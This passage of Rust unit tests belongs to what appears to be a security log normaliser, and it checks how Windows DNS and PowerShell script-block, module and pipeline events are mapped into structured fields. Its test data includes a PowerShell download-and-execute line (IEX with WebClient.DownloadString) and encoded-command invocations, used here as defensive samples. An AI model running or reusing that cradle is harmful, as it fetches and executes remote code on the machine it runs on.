                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
            ],
        ));
        assert_eq!((ev.class, ev.activity), (EventClass::Dns, Activity::Query));
        assert_eq!(ev.outcome, Outcome::Success);
        let q = ev.query.as_ref().expect("query");
        assert_eq!(q.name.as_deref(), Some("WORKSTATION6.theshire.local"));
        assert_eq!(q.detail.as_deref(), Some("edge.example.net,172.18.39.6"));
        assert_eq!(ev.actor.process.as_ref().and_then(|p| p.pid), Some(6404));
    }

    #[test]
    fn powershell_4104_script_block() {
        let mut r = rec(
            PS,
            4104,
            &[
                ("MessageNumber", "2"),
                ("MessageTotal", "3"),
                (
                    "ScriptBlockText",
                    "IEX (New-Object Net.WebClient).DownloadString('http://x')",
                ),
                ("ScriptBlockId", "64d6cbbd-e96e-4236-9813-c6a14c49591e"),
                ("Path", ""),
            ],
        );
        r.user_sid = Some("S-1-5-18".to_owned());
        let ev = map(&r);
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Script, Activity::Execute)
        );
        let s = ev.script.as_ref().expect("script");
        assert!(
            s.text
                .as_deref()
                .is_some_and(|t| t.contains("DownloadString"))
        );
        assert_eq!(
            s.block_id.as_deref(),
            Some("64d6cbbd-e96e-4236-9813-c6a14c49591e")
        );
        assert_eq!((s.part, s.parts), (Some(2), Some(3)));
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.uid.as_deref()),
            Some("S-1-5-18")
        );
    }

    #[test]
    fn powershell_4103_module_logging() {
        let ev = map(&rec(
            PS,
            4103,
            &[
                (
                    "ContextInfo",
                    "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell.exe -noP -enc SQBm\r\n        Command Name = Start-Sleep\r\n        Script Name = \r\n        User = THESHIRE\\pgustavo\r\n",
                ),
                ("UserData", ""),
                (
                    "Payload",
                    "CommandInvocation(Start-Sleep): \"Start-Sleep\"\r\n",
                ),
            ],
        ));
        assert_eq!(ev.class, EventClass::Script);
        let s = ev.script.as_ref().expect("script");
        assert!(
            s.text
                .as_deref()
                .is_some_and(|t| t.starts_with("CommandInvocation"))
        );
        assert_eq!(
            s.host_application.as_deref(),
            Some("powershell.exe -noP -enc SQBm")
        );
        let u = ev.actor.user.as_ref().expect("user");
        assert_eq!(
            (u.domain.as_deref(), u.name.as_deref()),
            (Some("THESHIRE"), Some("pgustavo"))
        );
        assert_eq!(attr(&ev, "CommandName"), Some("Start-Sleep"));
        assert_eq!(attr(&ev, "ScriptName"), None);
    }

    #[test]
    fn powershell_800_pipeline_details_from_data_or_message() {
        let context = "\tDetailSequence=1\r\n\tUserId=THESHIRE\\pgustavo\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -enc SQBm\r\n\tScriptName=\r\n";
        let classic = ("PowerShell", "Windows PowerShell");
        let ev = map(&rec(
            classic,
            800,
            &[
                ("param1", "Start-Sleep -Seconds 5"),
                ("param2", context),
                ("param3", "CommandInvocation(Start-Sleep): \"Start-Sleep\""),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Script, Activity::Execute)
        );
        let s = ev.script.as_ref().expect("script");
        assert_eq!(s.text.as_deref(), Some("Start-Sleep -Seconds 5"));
        assert_eq!(
            s.host_application.as_deref(),
            Some("powershell.exe -enc SQBm")
        );
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.name.as_deref()),
            Some("pgustavo")
        );
        assert!(attr(&ev, "Details").is_some());

        let mut r = rec(classic, 800, &[]);
        r.message = Some(format!(
            "Pipeline execution details for command line:     Start-Sleep -Seconds 5\n. \r\n\r\nContext Information: \r\n{context}\r\n\r\nDetails: \r\nCommandInvocation(Start-Sleep): \"Start-Sleep\"\r\n"
        ));
        let ev = map(&r);
        let s = ev.script.as_ref().expect("script");
        assert_eq!(s.text.as_deref(), Some("Start-Sleep -Seconds 5"));
        assert_eq!(
            s.host_application.as_deref(),
            Some("powershell.exe -enc SQBm")
        );
        assert_eq!(
            attr(&ev, "Details"),
            Some("CommandInvocation(Start-Sleep): \"Start-Sleep\"")
        );
        assert_eq!(attr(&ev, "Message"), None, "the message was read, not kept");
    }

    #[test]
    fn windows_values_parse() {
        assert_eq!(parse_ip("::ffff:10.0.0.5"), ip("10.0.0.5"));
        assert_eq!(parse_ip("fe80::1%12"), ip("fe80::1"));
        assert_eq!(parse_ip("-"), None);
        assert_eq!(parse_number("0x1a4"), Some(420));
        assert_eq!(parse_number("420"), Some(420));
        assert_eq!(split_computer(Some("DC01")), (Some("DC01".into()), None));
        let u = split_account("NT AUTHORITY\\SYSTEM");
        assert_eq!(
            (u.domain.as_deref(), u.name.as_deref()),
            (Some("NT AUTHORITY"), Some("SYSTEM"))
        );
    }
}
